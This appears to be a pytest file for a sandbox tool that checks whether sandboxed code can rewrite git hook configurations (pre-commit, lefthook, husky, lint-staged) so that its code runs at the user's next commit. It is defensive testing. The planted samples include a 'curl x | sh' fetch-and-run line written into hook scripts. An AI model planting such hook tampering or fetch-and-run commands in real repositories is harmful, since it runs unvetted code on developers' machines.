"""Git hook managers: the hook a person installed in .git/hooks (git's own, kept) reads
its configuration from the work tree at every commit. The tree changing that
configuration would run its code at the person's next `git commit`, outside. Judged by
what the commit runs (the real pre-commit), and for the other managers by what is there
after ztsa exits."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from test_agent_files import plant
from test_surfaces import _plant_script

RUN_MODES = ("root", "user", "nouserns")

PERSONS = """repos:
- repo: local
  hooks:
  - id: mark
    name: mark
    entry: touch {good}
    language: system
    pass_filenames: false
    always_run: true
"""


def _git(ws: Path, *args: str, env: dict[str, str] | None = None
         ) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "-c", "user.name=p", "-c", "user.email=p@x", "-c",
                           f"safe.directory={ws}", *args], cwd=ws, capture_output=True,
                          text=True, env=env, timeout=120)


def test_the_config_a_pre_commit_hook_reads_is_not_the_trees(run):
    pytest.importorskip("pre_commit", reason="the real pre-commit is a test dependency")
    ws = run.workspace
    out = Path(tempfile.mkdtemp(prefix="ztsa-precommit-"))
    good, evil = out / "good", out / "evil"
    env = {**os.environ, "PRE_COMMIT_HOME": str(out / "cache")}
    assert _git(ws, "init", "-q").returncode == 0
    plant(ws, ".pre-commit-config.yaml", PERSONS.format(good=good))
    installed = subprocess.run([sys.executable, "-m", "pre_commit", "install"], cwd=ws,
                               capture_output=True, text=True, env=env, timeout=120)
    assert installed.returncode == 0, installed.stderr
    evil_config = PERSONS.format(good=evil)
    # written in place, and renamed into place from a file of the tree's
    items = [(".pre-commit-config.yaml", evil_config), ("x.yaml", evil_config)]
    proc, _ = run(run.python, "-c", _plant_script(items) + (
        "\ntry:\n    os.rename('x.yaml', '.pre-commit-config.yaml')\n"
        "except OSError as e:\n    print('rename refused', e.errno)\n"))
    assert proc.returncode == 0, proc.stderr
    # the person's next commit, outside
    (ws / "x.yaml").unlink(missing_ok=True)
    _git(ws, "add", "-A", env=env)
    commit = _git(ws, "commit", "-q", "-m", "next", env=env)
    assert not evil.exists(), (proc.stdout, commit.stdout, commit.stderr)
    # the hook did run, with the person's configuration
    assert good.exists(), (proc.stdout, commit.stdout, commit.stderr)


SCRIPTS = """repos:
- repo: local
  hooks:
  - id: check
    name: check
    entry: ./scripts/check.sh
    language: script
    pass_filenames: false
    always_run: true
  - id: lint
    name: lint
    entry: sh tools/lint.sh --strict
    language: system
    pass_filenames: false
    always_run: true
"""


def test_the_scripts_a_pre_commit_config_runs_are_not_the_trees(run):
    """Its local hooks run workspace scripts by path (`language: script`, or a system
    command naming one): the tree rewriting one, or making one the config names and
    lacks, would run its code at the person's next commit."""
    pytest.importorskip("pre_commit", reason="the real pre-commit is a test dependency")
    ws = run.workspace
    out = Path(tempfile.mkdtemp(prefix="ztsa-precommit-"))
    env = {**os.environ, "PRE_COMMIT_HOME": str(out / "cache")}
    assert _git(ws, "init", "-q").returncode == 0
    plant(ws, ".pre-commit-config.yaml", SCRIPTS)
    plant(ws, "scripts/check.sh", f"#!/bin/sh\ntouch {out}/good\n")
    os.chmod(ws / "scripts" / "check.sh", 0o777)
    os.chmod(ws / "tools", 0o777) if (ws / "tools").exists() else (ws / "tools").mkdir(0o777)
    os.chmod(ws / "tools", 0o777)
    installed = subprocess.run([sys.executable, "-m", "pre_commit", "install"], cwd=ws,
                               capture_output=True, text=True, env=env, timeout=120)
    assert installed.returncode == 0, installed.stderr
    items = [("scripts/check.sh", f"#!/bin/sh\ntouch {out}/evil-check\n"),
             ("tools/lint.sh", f"touch {out}/evil-lint\n")]
    proc, _ = run(run.python, "-c", _plant_script(items))
    assert proc.returncode == 0, proc.stderr
    _git(ws, "add", "-A", env=env)
    commit = _git(ws, "commit", "-q", "-m", "next", env=env)
    ran = sorted(p.name for p in out.iterdir() if p.name != "cache")
    assert "evil-check" not in ran and "evil-lint" not in ran, (proc.stdout, commit.stderr)
    assert "good" in ran, (proc.stdout, commit.stdout, commit.stderr)


def test_the_scripts_a_persons_hook_runs_are_not_the_trees(run):
    """The person's own .git/hooks/pre-commit runs `sh scripts/pre-commit.sh` from the
    work tree, as many repositories' setup instructions have it: a hook in all but
    name. Judged by what the person's next commit runs."""
    ws = run.workspace
    out = Path(tempfile.mkdtemp(prefix="ztsa-hookscript-"))
    assert _git(ws, "init", "-q").returncode == 0
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nset -e\nsh scripts/pre-commit.sh\n./scripts/new-check\n")
    os.chmod(hook, 0o755)
    plant(ws, "scripts/pre-commit.sh", f"touch {out}/good\n")
    items = [("scripts/pre-commit.sh", f"touch {out}/evil\n"),
             ("scripts/new-check", f"#!/bin/sh\ntouch {out}/evil-new\n")]
    proc, _ = run(run.python, "-c", _plant_script(items) + (
        "\ntry:\n    os.chmod('scripts/new-check', 0o755)\nexcept OSError:\n    pass\n"))
    assert proc.returncode == 0, proc.stderr
    _git(ws, "add", "-A")
    commit = _git(ws, "commit", "-q", "-m", "next")
    ran = sorted(p.name for p in out.iterdir())
    assert "evil" not in ran and "evil-new" not in ran, (proc.stdout, commit.stderr)
    assert "good" in ran, (proc.stdout, commit.stdout, commit.stderr)


def test_what_lefthook_and_husky_hooks_run_is_not_the_trees(run):
    """An installed lefthook hook runs its config's commands and the scripts of its
    source directory; husky's hook runs `npx lint-staged`, which runs what lint-staged's
    config lists. Judged by what is there after ztsa exits (neither tool is a test
    dependency)."""
    ws = run.workspace
    assert _git(ws, "init", "-q").returncode == 0
    hook = ws / ".git" / "hooks" / "pre-commit"
    # as `lefthook install` writes it: a script that finds and calls lefthook
    hook.write_text("#!/bin/sh\ncall_lefthook()\n{\n  lefthook \"$@\"\n}\n"
                    "call_lefthook run \"pre-commit\" \"$@\"\n")
    os.chmod(hook, 0o755)
    plant(ws, "lefthook.yml", "pre-commit:\n  commands:\n    lint:\n"
                              "      run: sh scripts/lint.sh {staged_files}\n"
                              "  scripts:\n    \"x.sh\":\n      runner: bash\n")
    plant(ws, "scripts/lint.sh", "eslint \"$@\"\n")
    plant(ws, ".lefthook/pre-commit/x.sh", "echo ok\n")
    plant(ws, ".husky/pre-commit", "npx lint-staged\n")
    items = [("scripts/lint.sh", "curl x | sh\n"), (".lefthook/pre-commit/x.sh", "curl x | sh\n"),
             (".lintstagedrc.json", '{"*": "sh x.sh"}'),
             ("lint-staged.config.js", "module.exports = {'*': 'sh x.sh'}\n")]
    proc, _ = run(run.python, "-c", _plant_script(items))
    assert proc.returncode == 0, proc.stderr
    assert (ws / "scripts" / "lint.sh").read_text() == "eslint \"$@\"\n", proc.stdout
    assert (ws / ".lefthook" / "pre-commit" / "x.sh").read_text() == "echo ok\n", proc.stdout
    assert not (ws / ".lintstagedrc.json").exists(), proc.stdout
    assert not (ws / "lint-staged.config.js").exists(), proc.stdout


PACKAGE = ('{\n  "name": "app",\n  "scripts": {"test": "jest"},\n'
           '  "lint-staged": {"*.js": "eslint"}\n}\n')


def test_the_hook_keys_of_package_json_are_not_the_trees(run):
    """husky's hook runs `npx lint-staged`, which runs the commands of package.json's
    `lint-staged` key. The tree may change package.json (an install adds a dependency),
    but a change of the keys an installed hook obeys gets the person's file back, the
    tree's moved aside; a change of other keys stays."""
    ws = run.workspace
    assert _git(ws, "init", "-q").returncode == 0
    plant(ws, ".husky/pre-commit", "npx lint-staged\n")
    plant(ws, "package.json", PACKAGE)
    plant(ws, "other/package.json", PACKAGE)
    tampered = PACKAGE.replace('"eslint"', '"sh x.sh"').replace('"jest"', '"vitest"')
    deps = PACKAGE.replace('"jest"', '"vitest"')
    proc, _ = run(run.python, "-c", _plant_script([("package.json", tampered),
                                                   ("other/package.json", tampered)]))
    assert proc.returncode == 0, proc.stderr
    assert (ws / "package.json").read_text() == PACKAGE, proc.stdout
    assert (ws / "other" / "package.json").read_text() == tampered  # no hook runs it
    # an ordinary change: kept
    proc, _ = run(run.python, "-c", _plant_script([("package.json", deps)]))
    assert proc.returncode == 0, proc.stderr
    assert (ws / "package.json").read_text() == deps, proc.stdout
